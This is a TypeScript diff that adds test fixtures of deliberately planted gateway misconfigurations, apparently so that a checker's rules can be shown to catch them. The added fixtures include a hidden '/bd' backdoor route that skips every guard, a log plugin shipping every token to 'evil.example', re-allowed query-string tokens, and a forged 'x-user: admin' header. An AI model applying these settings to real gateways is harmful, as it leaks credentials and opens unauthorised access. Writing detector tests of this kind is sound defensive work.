@@ -56,6 +56,8 @@ const landing = (changed: (answer: HttpAnswer, request: Incoming, hands: Hands) 
 const holding = (kind: string, when: (live: Live) => boolean, changed: (spec: Live['spec']) => Live['spec']): Sin => ({
   live: (objects, asked) => (asked === kind ? objects.map((live) => (when(live) ? { ...live, spec: changed(live.spec) } : live)) : objects),
 });
+/** A live object of somebody else. */
+const beside = (kind: string, id: string, spec: Live['spec']): Sin => ({ live: (objects, asked) => (asked === kind ? [...objects, { kind, id, spec, owner: undefined }] : objects) });
 const plugin = (name: string, config: Live['spec']): Sin =>
   holding('kong.plugin', ({ spec }) => spec.name === name, (spec) => ({ ...spec, config: { ...(spec.config as Live['spec']), ...config } }));
 
@@ -130,6 +132,16 @@ export const planted: readonly Planted[] = [
     name: 'a route to a service that the blueprint does not know', example: 'sso', named: ['AZ-23'],
     sin: { live: (objects, kind) => (kind === 'kong.route' && objects[0] ? [...objects, { ...objects[0], id: 'by-hand' }] : objects) },
   },
+  {
+    name: 'a route by hand that leads around every guard', example: 'sso', named: ['RCH-01', 'RCH-02', 'RCH-03', 'RCH-11', 'RCH-12'],
+    sin: {
+      ...beside('kong.route', 'side-door', { name: 'side-door', service: { name: 'shop.orders' }, paths: ['/bd'], protocols: ['http', 'https'] }),
+      ...at('kong', ({ path }) => path.startsWith('/bd'), (request, _right, { letThrough }) => letThrough(request, 'kong')),
+    },
+  },
+  { name: 'a log of somebody else that gets every token', example: 'sso', named: ['RCH-08'], sin: beside('kong.plugin', '#log', { name: 'http-log', enabled: true, config: { http_endpoint: 'http://evil.example/' } }) },
+  { name: 'a guard that takes tokens of the query again', example: 'sso', named: ['RCH-09'], sin: plugin('authctl-token-guard', { refuse_query_tokens: false }) },
+  { name: 'a gateway that makes up who calls', example: 'sso', named: ['RCH-06'], sin: at('kong', ({ header }) => header('authorization') !== undefined, (request, _right, { letThrough }) => letThrough(request, 'kong', { 'x-user': 'admin' })) },
   { name: 'an OPA that says yes to what the service refuses', example: 'hybrid', named: ['AZ-17'], sin: at('opa', () => true, () => answerOf(200, { result: { allow: true } })) },
   {
     name: 'a gateway that fetches the keys a token points to', example: 'sso', named: ['KEY-02'],
